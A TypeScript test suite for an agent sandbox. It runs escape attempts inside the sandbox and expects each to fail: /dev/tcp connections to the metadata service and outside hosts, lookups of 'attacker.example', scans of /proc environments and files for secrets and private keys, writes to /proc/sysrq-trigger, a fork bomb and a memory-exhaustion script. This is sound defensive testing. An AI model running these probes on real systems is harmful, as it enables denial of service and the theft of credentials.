/**
 * Tests the isolation of the local sandbox: each row is a command inside and its required output. A server
 * answers every request that passes the gateway.
 */
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { homedir, networkInterfaces, tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  SandboxLostError,
  SandboxUnsupportedError,
  type TaskSandbox,
} from '../../src/core/ports/sandbox-port.ts';
import { newTaskId, smallSpec } from './contract-spec.ts';
import { listen, localSubject, type LocalSubject } from './local-subject.ts';

const limits = { timeoutMs: 60_000, maxOutputBytes: 100_000 };
const canary = 'canary-6f1d0c2b9a';
const checkout = fileURLToPath(new URL('../..', import.meta.url)).replace(/\/$/, '');
const MiB = 1024 * 1024;

let subject: LocalSubject;
let sandbox: TaskSandbox;
let hostService: Awaited<ReturnType<typeof listen>>;
let hostAddress: string;

beforeAll(async () => {
  process.env['AIRLOCK_TEST_CANARY'] = canary;
  subject = await localSubject();
  hostService = await listen((_, response) => response.end('a service of the host'));
  hostAddress =
    Object.values(networkInterfaces())
      .flat()
      .find((address) => address?.family === 'IPv4' && !address.internal)?.address ?? '10.0.0.1';
  sandbox = subject.sandboxes.get(subject.sandboxes.idFor(newTaskId()));
  await sandbox.start(smallSpec);
});
afterAll(async () => {
  delete process.env['AIRLOCK_TEST_CANARY'];
  hostService.close();
  await subject.close();
});

async function inside(script: string, where = sandbox) {
  const { stdout, stderr, exitCode, timedOut } = await where.exec(
    { argv: ['/bin/bash', '-c', script] },
    limits,
  );
  return { out: (stdout + stderr).trim(), exitCode, timedOut };
}

/** Tries a TCP connection with Bash itself, without a program's proxy settings or resolver. */
const connect = (address: string, port: number) =>
  `timeout 3 bash -c 'exec 3<>/dev/tcp/${address}/${port} && echo CONNECTED' 2>&1`;

it('does not open the inspector of init on SIGUSR1', async () => {
  const own = subject.sandboxes.get(subject.sandboxes.idFor(newTaskId()));
  await own.start(smallSpec);
  const script = `readlink /proc/$PPID/exe; kill -USR1 $PPID; sleep 1; ${connect('127.0.0.1', 9229)}`;
  // The signal ends init, and with it the sandbox, or does nothing.
  const shown = await inside(script, own).catch((error: unknown) => {
    if (error instanceof SandboxLostError) return { out: 'lost' };
    throw error;
  });
  expect(shown.out).not.toContain('CONNECTED');
  await own.destroy();
});

describe('a toolchain of this machine', () => {
  let folder: string;
  beforeAll(() => {
    folder = realpathSync(mkdtempSync(join(tmpdir(), 'airlock-toolchain-')));
    mkdirSync(join(folder, 'bin'));
    writeFileSync(join(folder, 'bin/greet'), '#!/bin/sh\necho from the toolchain\n', { mode: 0o755 });
    // The sandbox runs as another user than root's.
    chmodSync(folder, 0o755);
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  it('runs in the sandbox, where nothing of it can be changed', async () => {
    const own = subject.sandboxes.get(subject.sandboxes.idFor(newTaskId()));
    await own.start({ ...smallSpec, toolchains: [folder] });
    expect((await inside('greet; command -v greet; command -v node', own)).out).toBe(
      `from the toolchain\n${folder}/bin/greet\n/opt/node/bin/node`,
    );
    const attempts = [
      'echo x > bin/greet',
      'echo x > bin/new',
      'rm -f bin/greet',
      'chmod 777 bin',
      'mv bin other',
    ];
    const tries = attempts.map((attempt) => `(${attempt}) 2>/dev/null && echo "${attempt}"`);
    const mounting = `mount -o remount,rw "${folder}" 2>/dev/null && echo remounted`;
    expect((await inside(`cd "${folder}"; ${[...tries, mounting].join('; ')}; ls . bin`, own)).out).toBe(
      '.:\nbin\n\nbin:\ngreet',
    );
    expect(readFileSync(join(folder, 'bin/greet'), 'utf8')).toContain('from the toolchain');
    expect(existsSync(join(folder, 'bin/new'))).toBe(false);
    await own.destroy();
  });

  it('cannot be what a sandbox must not see, and then none is started', async () => {
    const hostile = [
      '/',
      homedir(),
      checkout,
      subject.stateDir,
      '/etc',
      '/proc/self',
      join(folder, '../..'),
      'x',
    ];
    for (const one of hostile) {
      const id = subject.sandboxes.idFor(newTaskId());
      const started = subject.sandboxes.get(id).start({ ...smallSpec, toolchains: [folder, one] });
      await expect(started).rejects.toThrow(SandboxUnsupportedError);
      expect(subject.host.list()).not.toContain(id);
    }
  });
});

describe('the identity of a process in the sandbox', () => {
  it.each([
    ['is an ordinary user', 'id -u; id -g; id -G', '1000\n1000\n1000'],
    [
      'has no capability, not even in the bounding set',
      'grep -hE "^Cap(Eff|Prm|Bnd|Amb|Inh)" /proc/self/status | cut -f2 | sort -u',
      '0'.repeat(16),
    ],
    ['cannot gain a capability', 'grep NoNewPrivs /proc/self/status | cut -f2', '1'],
    ['has its own host name', 'hostname', 'airlock'],
    ['cannot create a user namespace', 'unshare -Ur true 2>/dev/null; echo $?', '1'],
    [
      'cannot create any other namespace',
      'for n in -m -n -p -u -i; do unshare $n -f true 2>/dev/null && echo MADE; done; true',
      '',
    ],
    ['cannot mount a file system', 'mount -t tmpfs none /tmp 2>/dev/null; echo $?', '32'],
    ['has no terminal', '(: < /dev/tty) 2>/dev/null; echo $?', '1'],
    ['cannot dump core', 'ulimit -c; ulimit -Hc', '0\n0'],
  ])('%s', async (_, script, expected) => {
    expect((await inside(script)).out).toBe(expected);
  });
});

describe('the network of the sandbox', () => {
  it('has only a loopback interface', async () => {
    expect((await inside("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")).out).toBe('lo');
    expect((await inside('tail -n +2 /proc/net/route')).out).toBe('');
  });

  it.each([
    ['the metadata service', '169.254.169.254', 80],
    ['a private network', '10.0.0.1', 443],
    ['a public resolver', '1.1.1.1', 53],
    ['a public address', '93.184.215.14', 443],
    ['another port', '127.0.0.1', 8080],
    ['ssh', '127.0.0.1', 22],
    ['DNS over TCP', '127.0.0.1', 53],
    ['IPv6 loopback', '::1', 443],
    ['a public IPv6 address', '2606:4700:4700::1111', 443],
  ])('cannot connect to %s', async (_, address, port) => {
    expect((await inside(connect(address, port))).out).not.toContain('CONNECTED');
  });

  it('cannot reach a service of the host, on loopback or on its address', async () => {
    const { port } = hostService;
    expect(await (await fetch(`http://127.0.0.1:${port}/`)).text()).toBe('a service of the host');
    for (const address of ['127.0.0.1', 'localhost', hostAddress]) {
      expect((await inside(connect(address, port))).out).not.toContain('CONNECTED');
    }
    expect((await inside(`curl -m 3 -sS http://localhost:${port}/`)).exitCode).not.toBe(0);
  });

  it.each([
    ['IPv4', 'getent ahosts secret-data.attacker.example | cut -d" " -f1 | sort -u', '127.0.0.1'],
    [
      'IPv6',
      `node -e "require('dns').resolve6('attacker.example',(e,a)=>console.log(e?.code??a.join()))"`,
      'ENODATA',
    ],
    [
      'other records',
      `node -e "const d=require('dns').promises;Promise.allSettled(['TXT','MX','NS','SRV','ANY'].map(t=>d.resolve('attacker.example',t))).then(r=>console.log(r.map(x=>x.reason?.code??'ANSWER').join()))"`,
      'ENOTFOUND,ENOTFOUND,ENOTFOUND,ENOTFOUND,ENOTFOUND',
    ],
  ])('resolves every name to the gateway only: %s', async (_, script, expected) => {
    expect((await inside(script)).out).toBe(expected);
  });

  it.each([
    ['raw packets', 2, 3, 'Operation not permitted'],
    ['the link layer', 17, 3, 'Address family not supported by protocol'],
    ['the hypervisor (vsock)', 40, 1, 'Address family not supported by protocol'],
    ['the kernel (AF_ALG)', 38, 5, 'Address family not supported by protocol'],
  ])('has no socket for %s', async (_, family, type, expected) => {
    expect((await inside(`perl -e 'print socket(my $s, ${family}, ${type}, 1) ? "MADE" : $!'`)).out).toBe(
      expected,
    );
  });

  it('cannot use the kernel keyrings of the host session', async () => {
    const keyctl = process.arch === 'arm64' ? 219 : 250;
    expect((await inside(`perl -e 'print syscall(${keyctl}, 0, -3, 0) == -1 ? $! : "KEYRING"'`)).out).toBe(
      'Operation not permitted',
    );
  });

  it('cannot send UDP datagrams to the outside', async () => {
    const datagram = `node -e "const s=require('dgram').createSocket('udp4');s.send('x',53,'8.8.8.8',e=>{console.log(e?e.code:'SENT');s.close()})"`;
    expect((await inside(datagram)).out).toBe('ENETUNREACH');
  });

  it.each([
    ['curl', 'curl -sS https://api.example.com/a'],
    ['curl over plain HTTP', 'curl -sS http://api.example.com/a'],
    [
      'Node',
      `node -e "fetch('https://api.example.com/a').then(r=>r.text()).then(t=>process.stdout.write(t))"`,
    ],
  ])('reaches the gateway and trusts its certificate: %s', async (name, script) => {
    const scheme = name.includes('plain') ? 'http' : 'https';
    expect((await inside(script)).out).toBe(`upstream says GET ${scheme}://api.example.com/a`);
  });

  it('reaches the gateway with git and trusts its certificate', async () => {
    expect(await inside('git ls-remote https://git.example.com/a/b')).toMatchObject({ exitCode: 0 });
    expect(subject.seen.map(({ url }) => url)).toContain(
      'https://git.example.com/a/b/info/refs?service=git-upload-pack',
    );
  });

  it('trusts no certificate authority but the gateway', async () => {
    const bundles =
      '$SSL_CERT_FILE $CURL_CA_BUNDLE $GIT_SSL_CAINFO $NODE_EXTRA_CA_CERTS /etc/ssl/certs/ca-certificates.crt';
    expect(
      (
        await inside(
          `cat ${bundles} | grep -c BEGIN; ls /etc/ssl/certs; od -An -tx1 -N12 /etc/ssl/certs/java/cacerts; ls -d /usr/share/ca-certificates/nothing 2>/dev/null`,
        )
      ).out,
      // The second one is Java's, with one entry.
    ).toBe('5\nca-certificates.crt\njava\n fe ed fe ed 00 00 00 02 00 00 00 01');
  });
});

describe('a process in the sandbox', () => {
  it.each([
    ['only its own folders', 'ls /', 'bin dev etc home lib lib64 opt proc run sbin tmp usr workspace'],
    ['no other home folder', 'ls /home /root 2>/dev/null', '/home: codex'],
    ['no socket', 'find / -xdev -type s -not -path "/proc/*" 2>/dev/null', ''],
    [
      'only harmless devices',
      'find /dev -not -type d -exec stat -c "%F %n" {} + | grep special | grep -o "/dev.*" | sort',
      '/dev/full /dev/null /dev/pts/ptmx /dev/random /dev/tty /dev/urandom /dev/zero',
    ],
    ['no kernel file system', 'ls -d /sys /sys/fs /boot 2>/dev/null', ''],
    ['only its own processes', 'ls /proc | grep -cE "^[0-9]+$" | xargs test 12 -gt && echo few', 'few'],
    [
      'writable folders that are closed to other users',
      'stat -c "%a %u" /workspace /tmp /home/codex /run/airlock',
      '700 1000\n700 1000\n700 1000\n700 1000',
    ],
  ])('sees %s', async (_, script, expected) => {
    const shown = (await inside(script)).out.replaceAll('\n', expected.includes('\n') ? '\n' : ' ').trim();
    // Some systems have more links to /usr than others.
    expect(shown.replace(/ (lib32|libx32)/g, '')).toBe(expected);
  });

  it('sees nothing of the checkout but the task scripts', async () => {
    const names = (
      await inside(
        `ls -d ${checkout} ${checkout}/package.json ${tmpdir()}/airlock-sandboxes-* /airlock /opt/airlock/../../src 2>/dev/null`,
      )
    ).out;
    expect(names).toBe('');
    expect(
      (
        await inside(
          'ls /opt; ls /opt/node/node_modules 2>/dev/null; test -f /opt/airlock/sandbox-init.js && echo scripts',
        )
      ).out,
    ).toBe('airlock\ncodex\nnode\nscripts');
  });

  it('sees neither the environment nor the name nor the user of the host process', async () => {
    const everywhere = `cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'`;
    const { out } = await inside(everywhere);
    expect(out).toContain('HOME=/home/codex');
    expect(out).not.toContain(canary);
    expect(out).not.toContain('gateway-token');
    expect(out).not.toContain(checkout);
    const names = [...out.matchAll(/^([A-Z_a-z]+)=/gm)].map(([, name]) => name);
    expect(
      [...new Set(names)].filter(
        (name) =>
          name !== undefined &&
          name in process.env &&
          !['HOME', 'PATH', 'LANG', 'USER', 'PWD', 'TZ', '_', 'SHLVL', 'OLDPWD'].includes(name) &&
          !/CERT|CA_|CAINFO|BUNDLE|GIT_/.test(name),
      ),
    ).toEqual([]);
    expect((await inside('cat /etc/passwd')).out).toBe('codex:x:1000:1000:Codex:/home/codex:/bin/sh');
    expect(userInfo().username === 'codex' || !out.includes(`USER=${userInfo().username}`)).toBe(true);
  });

  it("finds neither the authority's private key nor the gateway's secret", async () => {
    expect(
      (
        await inside(
          'grep -rlE "PRIVATE KEY|gateway-token" /etc /run /tmp /home /workspace /opt/airlock 2>/dev/null',
        )
      ).out,
    ).toBe('');
  });
});

describe('write access in the sandbox', () => {
  it.each([
    '/',
    '/usr',
    '/usr/bin',
    '/etc',
    '/etc/airlock',
    '/etc/ssl/certs',
    '/opt',
    '/opt/airlock',
    '/opt/node/bin',
    '/opt/codex/bin',
    '/dev',
    '/run',
    '/home',
  ])('is denied in %s', async (folder) => {
    expect((await inside(`touch ${folder}/new 2>/dev/null; echo $?`)).out).toBe('1');
  });

  it.each([
    '/proc/sys/kernel/hostname',
    '/proc/sysrq-trigger',
    '/proc/sys/vm/drop_caches',
    '/proc/1/mem',
    '/etc/resolv.conf',
    '/etc/hosts',
    '/etc/airlock/ca.pem',
  ])('is denied for %s', async (file) => {
    expect((await inside(`(echo x > ${file}) 2>/dev/null; echo $?`)).out).toBe('1');
  });

  it.each(['/workspace', '/tmp', '/home/codex', '/run/airlock', '/dev/shm'])(
    'is granted in %s',
    async (folder) => {
      expect((await inside(`echo x > ${folder}/mine && cat ${folder}/mine`)).out).toBe('x');
    },
  );

  it.each(['/workspace', '/tmp'])('ends at the disk size in %s', async (folder) => {
    const { out } = await inside(
      `head -c ${smallSpec.diskBytes + MiB} /dev/zero > ${folder}/full; du -m ${folder} | tail -1 | cut -f1; rm ${folder}/full`,
    );
    expect(out).toMatch(/No space left on device|File size limit|File too large/);
    expect(Number(out.split('\n').at(-2) ?? out.split('\n').at(-1))).not.toBeGreaterThan(
      smallSpec.diskBytes / MiB,
    );
  });
});

it.each(['/tmp', '/workspace', '/home/codex', '/run/airlock', '/dev/shm'])(
  'makes no more files in %s than an eighth of its size has room for in the kernel',
  async (folder) => {
    const { out } = await inside(
      `stat -f -c '%b %S %c' ${folder}; mkdir ${folder}/many && cd ${folder}/many && ` +
        `node -e 'try { for (let n = 0; n < 40_000; n++) fs.writeFileSync(String(n), ""); console.log("MADE"); } catch (error) { console.log(error.code); }'; ` +
        `cd; rm -rf ${folder}/many`,
    );
    const [blocks = 0, blockBytes = 0, inodes = 0] = out.split(/\s/).map(Number);
    expect(inodes).toBe(Math.max(4096, (blocks * blockBytes) / 8192));
    expect(out.split('\n').at(-1)).toBe('ENOSPC');
  },
);

describe('resource use of a sandbox', () => {
  async function another(spec = smallSpec): Promise<TaskSandbox> {
    const made = subject.sandboxes.get(subject.sandboxes.idFor(newTaskId()));
    await made.start(spec);
    return made;
  }

  it('stops a fork bomb at its limit, and the sandbox can still be destroyed', async () => {
    const victim = await another({ ...smallSpec, maxProcesses: 64 });
    const bomb = victim.exec(
      { argv: ['/bin/bash', '-c', 'bomb() { bomb | bomb & }; bomb; sleep 60'] },
      { ...limits, timeoutMs: 1_500 },
    );
    await bomb.catch(() => undefined);
    const table = readFileSync('/proc/loadavg', 'utf8').split(' ')[3]?.split('/')[1];
    expect(Number(table)).toBeLessThan(5_000);
    await victim.destroy();
    expect((await inside('echo unharmed')).out).toBe('unharmed');
  });

  it('stops a process that takes all memory, and spares other sandboxes', async () => {
    const victim = await another({ ...smallSpec, memoryBytes: 256 * MiB });
    const script = 'const kept = []; setInterval(() => kept.push(Buffer.alloc(32 * 1024 * 1024, 1)), 5)';
    const outcome = await victim
      .exec({ argv: ['node', '-e', script] }, limits)
      .catch((error: SandboxLostError) => error);
    // The kernel kills one process, the watchdog the whole sandbox.
    expect(outcome instanceof SandboxLostError || outcome.exitCode === 137).toBe(true);
    expect((await inside('echo unharmed')).out).toBe('unharmed');
    await victim.destroy();
  });

  it('is invisible to another sandbox', async () => {
    const other = await another();
    await inside('echo secret > /tmp/shared; echo secret > /dev/shm/shared; (sleep 73 &) ; true');
    expect(
      (
        await inside(
          'cat /tmp/shared /dev/shm/shared 2>/dev/null; pgrep -fx "sleep 73"; ipcs -m | grep -c 0x',
          other,
        )
      ).out,
    ).toBe('0');
    expect((await inside(`curl -sS https://other.example/`, other)).out).toContain('upstream');
    const [first, second] = [
      subject.seen.findLast(({ url }) => url.includes('api.example')),
      subject.seen.at(-1),
    ];
    expect(first?.headers['x-airlock-sandbox']).not.toBe(second?.headers['x-airlock-sandbox']);
    const [mine, theirs] = [
      (await inside('cat /etc/airlock/ca.pem')).out,
      (await inside('cat /etc/airlock/ca.pem', other)).out,
    ];
    expect(mine).not.toBe(theirs);
    await other.destroy();
  });
});
